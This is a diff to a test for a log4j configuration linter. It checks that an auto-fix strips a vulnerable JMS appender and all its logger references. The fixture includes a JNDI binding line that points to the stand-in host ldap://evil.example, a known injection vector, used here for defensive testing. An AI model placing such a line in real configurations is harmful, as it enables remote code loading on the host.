@@ -96,12 +96,16 @@ test('vulnerable-class: removes the appender\'s lines and every reference to it 
     'log4j.appender.jms.TopicConnectionFactoryBindingName=ldap://evil.example/x',
     'log4j.logger.com.example.A = WARN,jms',
     'log4j.logger.com.example.B = , jms , filelog',
+    'log4j.logger.com.example.C = INFO, jms,jms , jms',
     '',
   );
   const { actions } = fixesFor(before, rules.vulnerableClass.id);
-  assert.deepEqual(actions.map((a) => a.title), ['Remove appender jms and its 3 references']);
+  assert.deepEqual(actions.map((a) => a.title), ['Remove appender jms and its 6 references']);
   const after = fix(before, rules.vulnerableClass.id);
-  assert.equal(after, lines('log4j.rootLogger=INFO, filelog', 'log4j.appender.filelog=org.apache.log4j.FileAppender', 'log4j.logger.com.example.A = WARN', 'log4j.logger.com.example.B = , filelog', ''));
+  assert.equal(
+    after,
+    lines('log4j.rootLogger=INFO, filelog', 'log4j.appender.filelog=org.apache.log4j.FileAppender', 'log4j.logger.com.example.A = WARN', 'log4j.logger.com.example.B = , filelog', 'log4j.logger.com.example.C = INFO', ''),
+  );
   assert.deepEqual(service.validate(openText(after).document, openText(after).model), [], 'what is left passes the linter');
 
   const xml = [
